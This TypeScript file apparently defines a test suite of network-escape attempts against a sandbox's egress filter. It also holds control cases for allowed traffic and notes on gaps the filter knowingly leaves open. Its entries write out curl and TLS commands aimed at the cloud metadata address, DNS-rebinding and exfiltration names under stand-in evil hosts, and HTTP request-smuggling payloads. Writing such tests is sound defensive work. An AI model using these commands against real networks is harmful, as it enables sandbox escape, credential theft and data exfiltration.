import type { Arrival } from "../../support/outside/events.ts";
import type { Attack } from "../attack.ts";
import { arrived, isInside } from "../outside-names.ts";
import type { WeakeningName } from "../weakenings.ts";
import { direct, hosts, past } from "./network-past.ts";

const group = "network reachability" as const;
const bridge = "the engine's bridge";
const blindFilter = "a filter that checks nothing";

/** An attack whose arrival may have to be more than its sign. */
export type Observed = Omit<Attack, "id"> & { readonly counts?: ((arrival: Arrival) => boolean) | undefined };

export type Through = readonly [
  words: string,
  inside: string,
  counts?: ((arrival: Arrival) => boolean) | undefined,
  reason?: string,
];
const notPublic = "leads to an address that is not public";
const notListed = "the name is not on this session's list";

/** Names that lead where nobody may go; TLS and all, so that it is the address that is refused. */
export const leading: readonly Through[] = [
  ["a name that leads to the local network", "secure insider.outside.example:443", isInside, notPublic],
  ["a name that leads to the metadata service", "secure metadata.outside.example:443", isInside, notPublic],
  [
    "a name that leads behind the provider's address translation",
    "secure provider.outside.example:443",
    isInside,
    notPublic,
  ],
  [
    "a name that leads to a public and a private address",
    "for n in 1 2 3 4 5 6; do secure mixed.outside.example:443; done",
    isInside,
    notPublic,
  ],
  [
    "a name that leads elsewhere when it is asked again",
    "for n in 1 2 3; do secure $SIGN.rebinding.outside.example:443; done",
    isInside,
    notPublic,
  ],
  [
    "a name that leads to an address mapped into IPv6",
    "secure mapped.outside.example:443",
    isInside,
    notPublic,
  ],
  ["a name that leads to an address behind NAT64", "secure nat64.outside.example:443", isInside, notPublic],
  [
    "a name that leads to an address behind 6to4",
    "secure six-to-four.outside.example:443",
    isInside,
    notPublic,
  ],
  [
    "plain HTTP to a name that leads to the local network",
    'curl -s -m 8 "http://insider.outside.example/mark-$SIGN"',
    isInside,
    notPublic,
  ],
  [
    "plain HTTP to a name that leads to the metadata service",
    'curl -s -m 8 "http://metadata.outside.example/mark-$SIGN"',
    isInside,
    notPublic,
  ],
  ["the metadata service's address", "secure 169.254.169.254:443", isInside],
  ["the same mapped into IPv6", "secure '[::ffff:a9fe:a9fe]:443'", isInside],
  ["the same behind NAT64", "secure '[64:ff9b::a9fe:a9fe]:443'", isInside],
  ["the same behind 6to4", "secure '[2002:a9fe:a9fe::1]:443'", isInside],
  [
    "plain HTTP to the metadata service's address",
    'curl -s -m 8 "http://169.254.169.254/mark-$SIGN"',
    isInside,
  ],
  ["a public address without a name", 'secure "$OUTSIDE:443"'],
  [
    "TLS that asks for another server than the tunnel",
    "secure listed.outside.example:443 $SIGN.evil.example",
  ],
  ["TLS that asks for no server", "secure listed.outside.example:443 -"],
  ["bytes that are no TLS", 'tunnel listed.outside.example:443 "SSH-2.0-$SIGN\\\\r\\\\n"'],
  ["a tunnel to the port of ssh", 'tunnel listed.outside.example:22 "SSH-2.0-$SIGN\\\\r\\\\n"'],
  ["a tunnel to another port", "secure listed.outside.example:8443 listed.outside.example"],
  ["plain HTTP to another port", 'curl -s -m 8 "http://listed.outside.example:8443/mark-$SIGN"'],
  [
    "a Host header that says something else",
    'raw "GET http://listed.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n"',
    (arrival) => arrival.kind === "request" && arrival.host.startsWith("other."),
    "it is no plain HTTP address with a host name",
  ],
  [
    "a head of 100 kB",
    'curl -s -m 8 -H "X-Long: $(head -c 100000 /dev/zero | tr "\\\\0" a)" "http://listed.outside.example/mark-$SIGN"',
  ],
];

const isOther = (arrival: Arrival): boolean => !("host" in arrival) || !arrival.host.startsWith("listed.");
const smuggled =
  "GET http://other.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n";

/** Under `strict`, where one name is listed and the others are not. */
export const unlisted: readonly Through[] = [
  ["ask for a name that is not listed", "secure other.outside.example:443", undefined, notListed],
  ["have a name looked up that is not listed", "secure $SIGN.exfil.outside.example:443"],
  [
    "plain HTTP to a name that is not listed",
    'curl -s -m 8 "http://other.outside.example/mark-$SIGN"',
    undefined,
    notListed,
  ],
  ["a name that ends like a listed one", "secure evillisted.outside.example:443"],
  ["a name that begins like a listed one", "secure listed.outside.example.evil.outside.example:443"],
  [
    "a listed name that leads to the local network",
    "secure private.outside.example:443",
    isInside,
    notPublic,
  ],
  ["TLS that asks for a name that is not listed", "secure listed.outside.example:443 $SIGN.evil.example"],
  [
    "a second request behind a first (two lengths)",
    `raw "POST http://listed.outside.example/ HTTP/1.1\\\\r\\\\nHost: listed.outside.example\\\\r\\\\nContent-Length: 4\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\n\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n${smuggled}"; raw "${smuggled}"`,
    isOther,
  ],
  [
    "a second request on the same connection",
    `raw "GET http://listed.outside.example/ HTTP/1.1\\\\r\\\\nHost: listed.outside.example\\\\r\\\\n\\\\r\\\\n${smuggled}"`,
    isOther,
    notListed,
  ],
];

export const through = (network: "public" | "strict" | "none", list: readonly Through[]): Observed[] =>
  list.map(([words, inside, counts, reason]) => ({
    ...{ group, network, words: `${network}, through the filter: ${words}`, inside, weakening: blindFilter },
    ...(counts === undefined ? {} : { counts }),
    // Where there is no filter nobody gives reasons.
    ...(reason === undefined || network === "none" ? {} : { reason }),
  }));

export const toHost = (network: "public" | "strict" | "none"): Omit<Attack, "id">[] =>
  ["gateway", "own-public", "loopback", "zero"].map((name) => ({
    group,
    network,
    words: `${network}, through the filter: a name that leads to this host (${name.replace("-", " ")})`,
    inside: `tunnel ${name}.outside.example:$WEB_PORT`,
    weakening: blindFilter,
  }));

const isKnown =
  "`public` asks for any public name, and its own name server hears of that; `strict` asks for listed names alone";
/** What is not held, and said. */
const said: readonly Observed[] = [
  {
    ...{ group, network: "public", words: "public: smuggle data in a name that the filter looks up" },
    ...{
      inside: "secure $SIGN.wild.outside.example:443",
      weakening: blindFilter,
      ours: "open",
      why: isKnown,
    },
  },
  {
    ...{ group, network: "strict", words: "strict: smuggle data in a name below a listed `*.` pattern" },
    ...{ inside: "secure $SIGN.wild.outside.example:443", weakening: blindFilter, ours: "open" },
    why: "the owner of that domain hears of every name below it; list exact names where that matters",
  },
  {
    ...{ group, network: "strict", words: "strict: another Host inside the TLS of a listed server" },
    inside: "INNER_HOST=$SIGN.evil.example secure listed.outside.example:443",
    ...{ weakening: blindFilter, ours: "open" },
    why: "the filter does not open TLS; a server that serves others' names is listed with all of them",
  },
  ...[0, 1, 2, 4, 6, 9].map((index) => ({
    ...{
      group,
      network: "open" as const,
      words: `open: ${direct[index]?.[0]}`,
      inside: direct[index]?.[1] ?? "",
    },
    ...{
      weakening: bridge as WeakeningName,
      ours: "open" as const,
      why: "`open` is the engine's own bridge",
    },
  })),
];

const observed: readonly Observed[] = [
  ...past,
  ...through("public", leading),
  ...through("strict", unlisted),
  ...said,
];

/** Attacks that are judged by who sees them arrive: name server, web server and network card of a machine outside. */
export const networkObserved: Attack[] = [
  ...observed.map(({ counts, ...attack }, index) => {
    const id = `NET-${101 + index}`;
    return { ...attack, id, needsOutside: true, after: arrived(id, counts) };
  }),
  ...[...hosts, ...toHost("public")].map((attack, index) => ({
    ...attack,
    id: `NET-${201 + index}`,
    needsOutside: true,
  })),
];

/**
 * No attacks: what is allowed, in the same session. Without it an attack could be held by whatever breaks everything.
 */
export const networkControls: Attack[] = (["public", "strict"] as const).flatMap((network) =>
  (
    [
      ["plain HTTP", 'curl -s -m 8 "http://listed.outside.example/mark-$SIGN"', "http"],
      ["HTTPS", "secure listed.outside.example:443", "https"],
    ] as const
  ).map(([words, inside, way]) => {
    const id = `CONTROL-${network}-${way}`;
    return {
      ...{ id, group, network, inside, weakening: blindFilter, needsOutside: true, ours: "open" as const },
      words: `${network}, through the filter: ${words} to a listed name arrives`,
      after: arrived(id, (arrival) => arrival.kind === "request" && arrival.way === way),
    };
  }),
);
